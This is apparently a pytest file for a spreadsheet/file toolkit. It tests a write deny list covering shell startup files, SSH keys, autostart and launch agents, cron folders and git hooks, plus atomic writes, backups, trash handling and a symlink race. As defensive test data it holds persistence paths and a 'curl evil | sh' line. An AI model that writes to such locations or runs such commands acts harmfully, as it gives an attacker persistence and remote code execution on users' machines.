"""The paths layer (deny list, known folders) and the files layer (safe replace, backups, trash).

These run in-process against a private HOME: the layers are plain functions, and a tool test
(test_write_spreadsheet, the document and file tools) shows the same rules through the host.
"""
import os
import subprocess
import sys
import threading

import pytest

from conftest import ROOT
from xlakit.fs import files, paths
from xlakit.errors import InputError, ToolError


@pytest.fixture
def myhome(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


DENIED_IN_HOME = [
    ".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile", ".zshenv", ".bash_logout", ".xprofile",
    ".gitconfig", ".pam_environment", ".ssh/authorized_keys", ".ssh/id_ed25519", ".ssh/config",
    ".gnupg/gpg.conf", ".config/autostart/evil.desktop", ".config/systemd/user/evil.service",
    ".config/fish/config.fish", ".config/git/config", ".local/bin/ls", ".local/lib/python3.11/site-packages/x.pth",
    "Library/LaunchAgents/com.evil.plist", "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat",
    "Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1", ".xla-tools/tools/read_spreadsheet.py",
    ".xla-tools/tools.json", ".xla/backup/x.xlsx", ".xla/settings.json", ".xla/trash/x", ".xla/logs/runs.jsonl",
    "projects/app/.git/hooks/pre-commit", "projects/app/.git/config",
]


@pytest.mark.parametrize("rel", DENIED_IN_HOME)
def test_deny_list_refuses_startup_keys_autostart_hooks_and_the_toolbox(myhome, rel):
    target = os.path.join(str(myhome), rel)
    with pytest.raises(ToolError) as err:
        paths.resolve_write(target)
    assert "不允许写入" in str(err.value) and "工作空间" in str(err.value)
    assert not os.path.exists(target)
    # the same through "~" and through ".." from the workspace
    with pytest.raises(ToolError):
        paths.resolve_write("~/" + rel)
    with pytest.raises(ToolError):
        paths.resolve_write("../../" + rel)


@pytest.mark.parametrize("target", ["/etc/cron.d/evil", "/usr/local/bin/evil", "/bin/sh", "/boot/x",
                                    "/var/spool/cron/crontabs/root", "/Library/LaunchDaemons/x.plist"])
def test_deny_list_refuses_system_folders(myhome, target):
    assert paths.deny_reason(target)


@pytest.mark.parametrize("rel", ["tools/pydeps/openpyxl/__init__.py", "tools/read_spreadsheet.py", "tools.json",
                                 "xlakit/fs/paths.py", "xla.py"])
def test_deny_list_refuses_this_checkout(myhome, rel):
    assert "工具箱本身" in paths.deny_reason(os.path.join(ROOT, rel))


def test_deny_list_follows_symlinks_in_any_parent_and_the_target(myhome, tmp_path):
    (myhome / ".ssh").mkdir()
    innocent = tmp_path / "报表"
    os.symlink(str(myhome / ".ssh"), str(innocent))                   # a folder link into ~/.ssh
    with pytest.raises(ToolError):
        paths.resolve_write(str(innocent / "authorized_keys"))
    link = tmp_path / "notes.txt"
    os.symlink(str(myhome / ".bashrc"), str(link))                    # the file itself links out
    with pytest.raises(ToolError):
        paths.resolve_write(str(link))
    ws = paths.workspace_dir(create=True)
    os.symlink(str(myhome), os.path.join(ws, "家"))                   # a link inside the workspace
    with pytest.raises(ToolError):
        paths.resolve_write("家/.profile")
    assert not (myhome / ".bashrc").exists()


def test_ordinary_places_are_allowed(myhome, tmp_path):
    for target in [str(myhome / "Desktop" / "报表.xlsx"), str(tmp_path / "out" / "a.csv"), "结果.xlsx",
                   str(myhome / ".xla" / "workspace" / "charts" / "c.png"), str(myhome / "bashrc.txt"),
                   str(myhome / "projects" / "app" / "README.md"), str(myhome / "my.git" / "x.txt")]:
        assert os.path.isabs(paths.resolve_write(target))


def test_relative_paths_live_in_the_workspace_and_bad_paths_are_input_errors(myhome):
    assert paths.resolve_write("a/b.xlsx") == os.path.join(str(myhome), ".xla", "workspace", "a", "b.xlsx")
    for bad in ("", "   ", None, 5, "a\x00b"):
        with pytest.raises(InputError):
            paths.resolve_write(bad)


def test_known_folders_users_name(myhome):
    (myhome / "Desktop").mkdir()
    assert paths.resolve_write("桌面/报表.xlsx") == str(myhome / "Desktop" / "报表.xlsx")
    assert paths.expand("~/桌面/x.txt") == str(myhome / "Desktop" / "x.txt")        # no ~/桌面 here
    (myhome / "桌面").mkdir()
    assert paths.expand("~/桌面/x.txt") == str(myhome / "桌面" / "x.txt")           # but it exists now
    cfg = myhome / ".config"
    cfg.mkdir()
    (cfg / "user-dirs.dirs").write_text('XDG_DOWNLOAD_DIR="$HOME/下载"\n', encoding="utf-8")
    (myhome / "下载").mkdir()
    if sys.platform.startswith("linux"):
        assert paths.known_folder("Downloads") == str(myhome / "下载")
    assert paths.known_folder("不存在的") is None


# ---------------------------------------------------------------------------------------------
# files

def test_atomic_write_keeps_the_old_file_when_the_writer_fails(myhome, tmp_path):
    (tmp_path / "d").mkdir()
    tmp_path = tmp_path / "d"
    target = tmp_path / "账.csv"
    target.write_text("旧内容", encoding="utf-8")

    def broken(tmp):
        with open(tmp, "w") as fh:
            fh.write("半截")
        raise RuntimeError("disk full")
    with pytest.raises(RuntimeError):
        files.atomic_write(str(target), broken)
    assert target.read_text(encoding="utf-8") == "旧内容"
    assert [p.name for p in tmp_path.iterdir()] == ["账.csv"]           # no temp file left behind


def test_backups_are_bounded_per_file_and_in_total(myhome, tmp_path):
    target = tmp_path / "台账.txt"
    other = tmp_path / "其他.txt"
    for i in range(100):
        files.write_text(str(target), "版本 %d\n" % i + "x" * 1000)
    files.write_text(str(other), "a")
    files.write_text(str(other), "b")
    backups = sorted(os.listdir(paths.backup_dir()))
    mine = [b for b in backups if b.endswith("台账.txt")]
    assert len(mine) == files.KEEP_PER_FILE
    assert len([b for b in backups if b.endswith("其他.txt")]) == 1
    newest = max(mine, key=lambda b: os.stat(os.path.join(paths.backup_dir(), b)).st_mtime)
    with open(os.path.join(paths.backup_dir(), newest), encoding="utf-8") as fh:
        assert fh.readline().strip() == "版本 98"                      # the copy made before the last write
    assert target.read_text(encoding="utf-8").startswith("版本 99")
    # the byte cap
    assert files.prune_backups(max_bytes=3000) > 0
    total = sum(os.path.getsize(os.path.join(paths.backup_dir(), b)) for b in os.listdir(paths.backup_dir()))
    assert total <= 3000


WRITER = r"""
import sys
sys.path.insert(0, %(root)r)
from xlakit.fs import files
path, tag = sys.argv[1], sys.argv[2]
for i in range(30):
    with files.locked(path):
        with open(path, encoding="utf-8") as fh:
            lines = fh.read().splitlines()
        lines.append("%%s-%%d" %% (tag, i))
        files.write_text(path, "\n".join(lines) + "\n", backup=False, lock=False)
"""


def test_two_concurrent_writers_of_one_file_both_land(myhome, tmp_path):
    target = tmp_path / "共享.txt"
    target.write_text("表头\n", encoding="utf-8")
    script = tmp_path / "w.py"
    script.write_text(WRITER % {"root": ROOT}, encoding="utf-8")
    env = dict(os.environ, HOME=str(myhome))
    procs = [subprocess.Popen([sys.executable, str(script), str(target), tag], env=env) for tag in ("A", "B")]
    seen = []

    def watch():           # a reader never sees a half-written file
        while any(p.poll() is None for p in procs):
            text = target.read_text(encoding="utf-8")
            seen.append(text.startswith("表头\n") and text.endswith("\n"))
    t = threading.Thread(target=watch)
    t.start()
    assert [p.wait(60) for p in procs] == [0, 0]
    t.join()
    lines = target.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "表头" and len(lines) == 61
    assert sorted(lines[1:]) == sorted(["A-%d" % i for i in range(30)] + ["B-%d" % i for i in range(30)])
    assert all(seen)


def test_a_file_open_in_office_is_not_replaced(myhome, tmp_path):
    target = tmp_path / "报告.docx"
    target.write_bytes(b"old")
    for owner in ("~$报告.docx", ".~lock.报告.docx#"):
        (tmp_path / owner).write_bytes(b"x")
        with pytest.raises(ToolError) as err:
            files.write_bytes(str(target), b"new")
        assert "正在被" in str(err.value) and target.read_bytes() == b"old"
        (tmp_path / owner).unlink()
    files.write_bytes(str(target), b"new")
    assert target.read_bytes() == b"new"


def test_files_layer_applies_the_deny_list_itself(myhome):
    with pytest.raises(ToolError):
        files.write_text(os.path.join(str(myhome), ".bashrc"), "curl evil | sh")
    assert not (myhome / ".bashrc").exists()


def test_unique_path_never_overwrites(tmp_path):
    a = tmp_path / "结果.xlsx"
    assert files.unique_path(str(a)) == str(a)
    a.write_bytes(b"1")
    (tmp_path / "结果_2.xlsx").write_bytes(b"2")
    assert files.unique_path(str(a)) == str(tmp_path / "结果_3.xlsx")


def test_trash_moves_and_says_how_to_restore(myhome, tmp_path):
    target = tmp_path / "旧报表.xlsx"
    target.write_bytes(b"data")
    info = files.move_to_trash(str(target))
    assert not target.exists()
    assert open(info["trash_path"], "rb").read() == b"data"
    assert info["trash_path"].startswith(paths.trash_dir()) and str(target) in info["restore"]
    old = os.path.dirname(info["trash_path"])
    os.utime(old, (1, 1))                                            # older than the retention period
    again = tmp_path / "b.txt"
    again.write_text("x")
    files.move_to_trash(str(again))
    assert not os.path.exists(old)


# ---------------------------------------------------------------------------------------------
# Resolution the kernel's way; deny by rule; unnamed new files (issue 34, issue 38 item 1)

def test_new_files_are_unnamed_until_complete_and_the_named_fallback_is_swept(myhome, monkeypatch):
    folder = myhome / "报表"
    folder.mkdir()
    target = str(folder / "a.txt")
    seen = {}

    def write(tmp):
        seen["tmp"] = tmp
        seen["names"] = sorted(os.listdir(str(folder)))     # mid-write: nothing with a name yet
        with open(tmp, "w", encoding="utf-8") as fh:
            fh.write("新")
    files.atomic_write(target, write)
    if files.O_TMPFILE and os.path.isdir("/proc/self/fd"):
        assert seen["tmp"].startswith("/proc/self/fd/") and seen["names"] == []
    assert open(target, encoding="utf-8").read() == "新" and sorted(os.listdir(str(folder))) == ["a.txt"]
    # where O_TMPFILE is missing: a hidden .xla-*.tmp name, gone after the write
    monkeypatch.setattr(files, "O_TMPFILE", 0)
    files.atomic_write(target, write)
    assert any(files.is_temp_name(n) for n in seen["names"])
    assert sorted(os.listdir(str(folder))) == ["a.txt"]
    # a stale one a killed writer left is swept through the folder's descriptor by the next write
    stale = folder / ".xla-dead.txt.tmp"
    stale.write_text("x")
    os.utime(str(stale), (1, 1))
    files.atomic_write(target, write)
    assert sorted(os.listdir(str(folder))) == ["a.txt"]


def test_pth_files_and_git_dirs_by_content(myhome):
    ws = paths.workspace_dir(create=True)
    assert ".pth" in paths.deny_reason(os.path.join(str(myhome), "Documents", "x.pth"))
    assert paths.deny_reason(os.path.join(ws, "x.pth")) is None
    bare = myhome / "repos" / "site.git"
    for sub in ("objects", "refs", "hooks"):
        (bare / sub).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    for rel in ("hooks/post-receive", "config", "description", "refs/heads/main"):
        assert "git" in paths.deny_reason(str(bare / rel)), rel
    assert paths.deny_reason(str(myhome / "repos" / "notes.txt")) is None
    # a folder that merely has a HEAD file is not a repository
    (myhome / "plain").mkdir()
    (myhome / "plain" / "HEAD").write_text("x")
    assert paths.deny_reason(str(myhome / "plain" / "a.txt")) is None


def test_deny_reason_refuses_a_path_it_cannot_follow(myhome):
    loop = myhome / "loop"
    os.symlink("loop", str(loop))
    assert "无法确认" in paths.deny_reason(str(loop / "a.txt"))
    with pytest.raises(ToolError) as err:
        paths.resolve_write(str(loop / "a.txt"))
    assert "链接" in str(err.value)


def test_the_write_goes_where_the_check_looked_even_if_the_name_is_repointed(myhome):
    """The parent folder is swapped for a link to HOME while the new content is being written:
    the rename goes through the descriptor of the folder that was checked, so the file lands in
    the (moved) real folder and HOME's .bashrc is untouched."""
    (myhome / ".bashrc").write_text("mine\n")
    folder = myhome / "工作"
    folder.mkdir()
    moved = myhome / "工作-移走"

    def write(tmp):
        with open(tmp, "w", encoding="utf-8") as fh:
            fh.write("evil\n")
        os.rename(str(folder), str(moved))
        os.symlink(str(myhome), str(folder))
    files.atomic_write(str(folder / ".bashrc"), write, backup=False)
    assert (myhome / ".bashrc").read_text() == "mine\n"
    assert (moved / ".bashrc").read_text() == "evil\n"
